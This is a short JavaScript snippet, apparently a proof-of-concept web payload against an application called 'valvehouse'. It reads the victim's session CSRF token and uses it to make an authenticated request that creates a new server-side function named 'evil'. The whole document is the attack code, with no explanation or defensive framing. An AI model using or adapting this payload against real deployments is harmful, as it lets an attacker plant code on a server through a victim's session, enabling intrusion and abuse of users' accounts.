(async () => {
  const session = await (await fetch("/api/v1/session")).json();
  const headers = { "content-type": "application/json", "x-valvehouse-csrf": session.csrf };
  const body = JSON.stringify({ id: "evil", content: "fn inlet(body) { body }" });
  await fetch("/api/v1/functions/create", { method: "POST", headers, body });
})();
